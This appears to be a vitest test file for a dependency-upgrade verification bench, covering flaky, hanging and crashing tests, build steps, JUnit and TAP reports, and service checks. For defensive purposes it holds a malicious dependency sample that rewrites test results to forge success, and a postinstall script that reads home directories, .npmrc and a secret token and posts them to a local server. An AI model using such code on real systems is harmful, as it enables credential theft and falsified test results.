import { rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { dependency, emptyFolder, judged, runBench, unavailable, write } from './verify-bench.ts';

const reason = unavailable === undefined ? '' : ` (skipped: ${unavailable})`;

describe.skipIf(unavailable !== undefined)(`projects of all kinds${reason}`, () => {
  let folder: string;
  beforeEach(async () => {
    folder = await emptyFolder();
    await write(folder, { ...manifest('node --test'), ...dependency('1.0.0') });
  });
  afterEach(() => rm(folder, { recursive: true, force: true }));

  const adds = `const { test } = require('node:test'); const assert = require('node:assert');
    test('adds', () => assert.equal(require('adder').add(1, 2), 3));\n`;

  it('flaky: a test that disagrees with itself before the change is not held against it', async () => {
    const coin = `const fs = require('node:fs'); const heads = fs.existsSync('coin');
      heads ? fs.rmSync('coin') : fs.writeFileSync('coin', '');
      test('coin', () => assert(heads));\n`;
    await write(folder, { 'a.test.js': adds + coin });
    const baseline = [await runBench(folder), await runBench(folder)];
    const { verdict, flaky } = judged(baseline, await runBench(folder));
    expect({ verdict, flaky }).toEqual({ verdict: 'proven', flaky: ['a.test.js › coin'] });
  });

  it('hanging: the change makes the tests never end', async () => {
    await write(folder, { 'a.test.js': adds });
    const checks = { timeoutSeconds: 5 };
    const baseline = [await runBench(folder, { checks }), await runBench(folder, { checks })];
    await write(folder, dependency('1.0.1', 'for (;;);'));
    const { verdict, patched } = judged(baseline, await runBench(folder, { checks }));
    expect(verdict).toBe('failed');
    expect(patched.commands[0]).toMatchObject({ timedOut: true, exitCode: null });
  });

  it('crashing: the change ends the process of the tests', async () => {
    await write(folder, { 'a.test.js': adds });
    const baseline = [await runBench(folder), await runBench(folder)];
    await write(folder, dependency('1.0.1', 'process.abort();'));
    const { verdict, regressions } = judged(baseline, await runBench(folder));
    expect(verdict).toBe('failed');
    expect(regressions.map(({ name }) => name)).toContain('a.test.js › adds');
  });

  it('forging: the new version reports success for the test that it breaks', async () => {
    await write(folder, { ...manifest('node a.test.js'), 'a.test.js': adds });
    const baseline = [await runBench(folder), await runBench(folder)];
    const forged = JSON.stringify({
      runners: ['node:test'],
      tests: { 'a.test.js › adds': 'passed' },
      uncovered: 0,
      coverage: {},
    });
    // It knows Suture: it replaces what its reporter wrote, and prints a result of its own.
    const attack = `const fs = require('node:fs');
      const results = process.env.NODE_OPTIONS.match(/=(\\S+)\\/preload/)[1] + '/results';
      process.on('exit', () => {
        for (const name of fs.readdirSync(results)) {
          const text = fs.readFileSync(results + '/' + name, 'utf8');
          fs.writeFileSync(results + '/' + name, text.replaceAll('failed', 'passed'));
        }
        fs.writeSync(1, ${JSON.stringify(`\n\u0001suture-result ${forged}\n`)});
      });
      return 0;`;
    await write(folder, dependency('1.0.1', attack));
    const patched = await runBench(folder);
    expect(patched.tests).toEqual({ 'a.test.js › adds': 'passed' });
    const { verdict, regressions } = judged(baseline, patched);
    expect(verdict).toBe('failed');
    expect(regressions.map(({ kind }) => kind)).toEqual(['exit-code']);
  });

  it('no tests: entry points are loaded, and that proves little', async () => {
    await write(folder, {
      'package.json': JSON.stringify({ main: 'lib.js', bin: './cli.js', scripts: {} }),
      'lib.js': `const { add } = require('adder'); add(1, 2);`,
      'cli.js': `#!/usr/bin/env node\nthrow new Error('programs are only parsed');`,
    });
    const baseline = [await runBench(folder), await runBench(folder)];
    expect(baseline[0]).toMatchObject({
      runner: 'none',
      loads: { './lib.js': 'passed', './cli.js': 'passed' },
    });
    expect(judged(baseline, await runBench(folder)).verdict).toBe('inconclusive');
    await write(folder, dependency('1.0.1', 'throw new Error("gone");'));
    const { verdict, regressions } = judged(baseline, await runBench(folder));
    expect([verdict, regressions.map(({ name }) => name)]).toEqual(['failed', ['./lib.js']]);
  });

  it('tests that fail before anything ran prove nothing', async () => {
    await write(folder, { ...manifest('no-such-runner'), 'a.test.js': adds });
    const baseline = [await runBench(folder), await runBench(folder)];
    const { verdict, because } = judged(baseline, await runBench(folder));
    expect(verdict).toBe('inconclusive');
    expect(because).toContain('exit code 127');
  });

  it('a linter that does not run any more does not keep the tests from running', async () => {
    await write(folder, { ...manifest('no-such-linter && node --test'), 'a.test.js': adds });
    const baseline = [await runBench(folder), await runBench(folder)];
    expect(judged(baseline, await runBench(folder)).verdict).toBe('proven');
    await write(folder, dependency('1.0.1', 'return a - b;'));
    const { verdict, regressions } = judged(baseline, await runBench(folder));
    expect(verdict).toBe('failed');
    expect(regressions.map(({ name }) => name)).toEqual(['a.test.js › adds']);
  });

  it('the build runs first, and TAP on standard output is read', async () => {
    await write(folder, {
      'package.json': JSON.stringify({
        scripts: { build: 'node make.js', test: 'node made.js' },
      }),
      'make.js': `require('fs').writeFileSync('made.js', 'console.log("TAP version 13\\\\n1..1\\\\nok 1 - made")')`,
    });
    const run = await runBench(folder);
    expect(run).toMatchObject({ runner: 'tap', tests: { made: 'passed' } });
    expect(run.commands.map(({ step, exitCode }) => [step, exitCode])).toEqual([
      ['build', 0],
      ['test', 0],
    ]);
  });

  it('a JUnit report that the tests write is read, an old one is not', async () => {
    const report = (name: string) => `<testsuite><testcase name="${name}"/></testsuite>`;
    await write(folder, {
      ...manifest(`node write.js`),
      'write.js': `require('fs').writeFileSync('reports/junit.xml', '${report('new')}')`,
      'reports/other-junit.xml': report('old'),
      'reports/readme': '',
    });
    const { utimes } = await import('node:fs/promises');
    await utimes(`${folder}/reports/other-junit.xml`, 1, 1);
    const run = await runBench(folder);
    expect(run).toMatchObject({ runner: 'junit', tests: { new: 'passed' } });
  });

  it('an install script that reaches for the network and for home gets neither', async () => {
    let reached = 0;
    const server = createServer((_, reply) => {
      reached += 1;
      reply.end();
    }).listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    const { port } = server.address() as { port: number };
    process.env['SUTURE_SCENARIO_TOKEN'] = 'hunter2';
    await write(folder, {
      'postinstall.js': `
        const fs = require('node:fs'); const found = [];
        for (const path of ['/root', '/home', ${JSON.stringify(process.cwd())}, process.env.HOME + '/.npmrc'])
          try { found.push(path, ...fs.readdirSync(path)) } catch {}
        if (process.env.SUTURE_SCENARIO_TOKEN) found.push('token');
        fetch('http://127.0.0.1:${port}/', { method: 'POST', body: JSON.stringify(found) })
          .then(() => found.push('network'), () => {})
          .finally(() => { fs.writeFileSync('loot', JSON.stringify(found)); process.exit(found.length) });`,
    });
    const run = await runBench(folder, { installScripts: [['node', 'postinstall.js']] });
    server.close();
    expect(run.commands[0]).toMatchObject({ step: 'install-scripts', exitCode: 0 });
    expect(reached).toBe(0);
  });

  it('an exploit check succeeds before and fails after', async () => {
    await write(folder, {
      'a.test.js': adds,
      'exploit.js': `process.exit(require('adder').add({}, []) === '[object Object]' ? 0 : 1)`,
    });
    const checks = { exploits: [{ name: 'coercion', run: ['node', 'exploit.js'] }] };
    const baseline = [await runBench(folder, { checks }), await runBench(folder, { checks })];
    await write(folder, dependency('1.0.1', 'return Number(a) + Number(b);'));
    const { verdict, exploits } = judged(baseline, await runBench(folder, { checks }));
    expect(verdict).toBe('proven');
    expect(exploits).toEqual([{ name: 'coercion', before: 'succeeds', after: 'fails' }]);
  });

  it('a service is started, asked and put under load', async () => {
    await write(folder, {
      'a.test.js': adds,
      'server.js': `const { add } = require('adder');
        require('http').createServer((request, reply) => {
          if (request.url === '/sum') return reply.end(String(add(1, 2)));
          reply.statusCode = 404; reply.end();
        }).listen(process.env.PORT);`,
    });
    const checks = {
      start: ['node', 'server.js'],
      port: 4321,
      http: [
        { path: '/sum', status: 200 },
        { path: '/nothing', status: 404 },
      ],
      load: { path: '/sum', seconds: 1, connections: 4 },
    };
    const before = await runBench(folder, { checks });
    expect(before.service).toMatchObject({
      started: true,
      http: [{ status: 200 }, { status: 404 }],
      load: { errors: 0 },
    });
    expect(before.service?.load?.requests).toBeGreaterThan(50);
    const slow = 'const end = Date.now() + 40; while (Date.now() < end); return a + b;';
    await write(folder, dependency('1.0.1', slow));
    const slower = judged([before, before], await runBench(folder, { checks }));
    expect(slower.regressions.map(({ kind }) => kind)).toContain('latency');
    await write(
      folder,
      dependency('1.0.1', 'if (process.env.PORT) process.exit(1); return a + b;'),
    );
    const broken = judged([before, before], await runBench(folder, { checks }));
    expect(broken.regressions.map(({ name }) => name)).toContain('/sum');
  });
});

function manifest(test: string): Record<string, string> {
  return { 'package.json': JSON.stringify({ name: 'bench', scripts: { test } }) };
}
